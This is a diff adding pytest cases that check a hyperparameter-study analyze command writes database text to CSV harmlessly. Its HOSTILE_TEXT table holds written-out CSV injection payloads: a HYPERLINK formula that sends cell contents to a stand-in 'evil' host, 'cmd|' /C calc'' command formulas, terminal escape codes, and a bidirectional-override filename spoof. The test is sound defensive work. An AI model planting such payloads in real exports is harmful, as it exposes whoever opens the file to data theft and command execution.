@@ -247,3 +247,46 @@ def test_analyze_reports_what_the_run_recorded(stored: StoredCopy, ugro: Any) ->
         and "Gaussian" in summary["sampler_reason"]
     )
     assert summary["scheduler"] == "ray.tune.schedulers.FIFOScheduler"
+
+
+HOSTILE_TEXT = {
+    "a formula": '=HYPERLINK("http://evil/"&A1,"open")',
+    "a formula after +": "+cmd|' /C calc'!A0",
+    "a formula after -": "-2+3+cmd|' /C calc'!A0",
+    "a formula after @": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a tab first": "\t=1+1",
+    "a carriage return first": "\r=1+1",
+    "terminal escapes": "\x1b[2J\x1b]0;pwned\x07cleared",
+    "a bidirectional override": "abc\u202egnp.exe",
+    "a NUL and DEL": "a\x00b\x7fc",
+}
+
+
+_TEXTS = sorted(HOSTILE_TEXT)
+
+
+@pytest.mark.parametrize("group", [_TEXTS[0:3], _TEXTS[3:6], _TEXTS[6:9]], ids=["1", "2", "3"])
+def test_text_from_the_database_is_written_to_csv_harmless(
+    stored: StoredCopy, ugro: Any, group: list[str]
+) -> None:
+    import csv
+
+    stored.sql("DELETE FROM trial_user_attributes WHERE key = 'error'")
+    for trial_id, name in enumerate(group, start=1):  # the victim's three trials
+        stored.sql("INSERT INTO trial_user_attributes (trial_id, key, value_json) VALUES (?, 'error', ?)",
+                   trial_id, json.dumps(HOSTILE_TEXT[name]))  # fmt: skip
+    stored.sql("UPDATE trial_user_attributes SET value_json = ? WHERE key = 'metrics'",
+               json.dumps({"=1+1": 1.0, "y": -1.5}))  # fmt: skip
+    assert ugro("hpo", "analyze", "--study-name", VICTIM, "--output-dir", "out").code in (0, None)
+    raw = (stored.root / "out" / "trials.csv").read_text()
+    assert not any(c in raw for c in "\x00\x07\x1b\x7f\r\t\u202e")
+    rows = list(csv.reader(raw.splitlines()))
+    assert len(rows) == 4 and "'=1+1" in rows[0]  # a metric name from the database, made plain
+    errors = [row[-1] for row in rows[1:]]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in errors), errors
+    for name, cell in zip(group, errors, strict=True):
+        text = HOSTILE_TEXT[name]
+        if text[0] in "=+-@\t\r":
+            assert cell.startswith("'"), (name, cell)
+    column = rows[0].index("y")
+    assert all(row[column] == "-1.5" for row in rows[1:]), rows  # a number stays a number
